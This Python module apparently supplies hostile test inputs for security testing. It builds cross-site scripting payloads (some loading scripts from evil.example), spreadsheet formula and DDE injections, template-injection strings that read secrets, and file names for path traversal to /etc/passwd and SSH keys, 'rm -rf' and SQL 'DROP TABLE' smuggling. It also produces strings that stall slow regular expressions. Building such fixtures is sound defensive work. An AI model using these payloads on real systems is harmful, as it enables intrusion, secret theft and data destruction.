"""What hostile people type. Each class of attack once, in many spellings; made here, not copied from anywhere."""

import itertools

_CODE = "alert(/zqx/)"
# How a value may stand in a page: as text, in an attribute of either quote, in a comment, in raw text.
_BREAKS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</script>", "</style>", "]]>", "</option></select>")
_NODES = (
    f"<script>{_CODE}</script>", f"<img src=x onerror={_CODE}>", f"<svg onload={_CODE}>", f"<body onload={_CODE}>",
    f"<iframe srcdoc='<script>{_CODE}</script>'>", f"<a href=javascript:{_CODE}>x</a>", f"<object data=javascript:{_CODE}>",
    f"<form action=javascript:{_CODE}><input type=submit>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<details open ontoggle={_CODE}>", f"<math><a xlink:href=javascript:{_CODE}>x</a></math>",
    f"<style>@import '//evil.example';</style><img src=x onerror={_CODE}>",
)  # fmt: skip
_INSIDE = (
    f'" onmouseover="{_CODE}', f"' onfocus='{_CODE}' autofocus x='", f"x onclick={_CODE} ", f"javascript:{_CODE}",
    f"jAvAsCrIpT&colon;{_CODE}", f"java\tscript:{_CODE}", f"data:text/html,<script>{_CODE}</script>", f"vbscript:{_CODE}",
    f"&lt;script&gt;{_CODE}&lt;/script&gt;", f"%3Cscript%3E{_CODE}%3C/script%3E", f"\\u003cscript\\u003e{_CODE}\\u003c/script\\u003e",
    f"＜script＞{_CODE}＜/script＞", f"<scr<script>ipt>{_CODE}</scr</script>ipt>", "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
    f"<img/src='x'/onerror={_CODE}//", f"<svg/onload={_CODE}//", f"<<script>{_CODE}//<</script>", f"<img src=x onerror\n=\n{_CODE}>",
    f"{{{{{_CODE}}}}}", f"${{{_CODE}}}", f"<!--[if gte IE 4]><script>{_CODE}</script><![endif]-->", f"`><img src=x onerror={_CODE}>",
)  # fmt: skip

SCRIPTS = list(dict.fromkeys([*("".join(pair) for pair in itertools.product(_BREAKS, _NODES)), *_INSIDE,
                              *(node.upper() for node in _NODES), *(node.replace(" ", "/") for node in _NODES),
                              *(node.replace("<", "\x01<") for node in _NODES)]))  # fmt: skip

# A cell that a spreadsheet takes for a formula; the full-width signs are turned into plain ones on opening.
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
            '=HYPERLINK("http://evil.example","x")', "=cmd|'/C calc'!A0", " =1+1", "\u200b=1+1"]  # fmt: skip

# What template languages would carry out: Django's, Jinja's, Python's format, shells'.
TEMPLATES = ["{{ user.password }}", "{% debug %}", "{{ 7|add:'42' }}", "{% load static %}", "{% include 'base.html' %}",
             "{user.password}", "{0.__class__}", "%(password)s", "${SECRET_KEY}", "$(id)", "`id`", "{{ settings.SECRET_KEY }}",
             "{{''.__class__.__mro__}}", "{% url 'desk' %}", "{% csrf_token %}"]  # fmt: skip

NAMES = ["../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x\\y.pdf", "a/../b.pdf", "....//x.pdf", "a\x00.pdf",
         "a\r\nSet-Cookie: x=1.pdf", "\u202egnp.exe", ".htaccess", "~/.ssh/id_rsa", "con.pdf", "a" * 5000 + ".pdf", "\ufeff.pdf",
         "%2e%2e%2fx.pdf", "a;rm -rf.pdf", "文件\u2028名.pdf", "'; DROP TABLE x;--.pdf"]  # fmt: skip


def slow(length=1_000_000):
    """Texts of about *length* characters that make careless patterns and loops slow."""
    return {
        "one letter": "a" * length, "digits": "1" * length, "spaces": " " * length + "x", "nested": "{" * length,
        "brackets": "[" * length, "lines": "a\n" * (length // 2), "quotes": '"' * length, "dashes": "-" * length,
        "han": "号" * length, "mixed": "a1 " * (length // 3) + "!", "marks": "e\u0301" * (length // 2),
        "dots": "1." * (length // 2), "dates": "2017-01-01 " * (length // 11),
    }  # fmt: skip
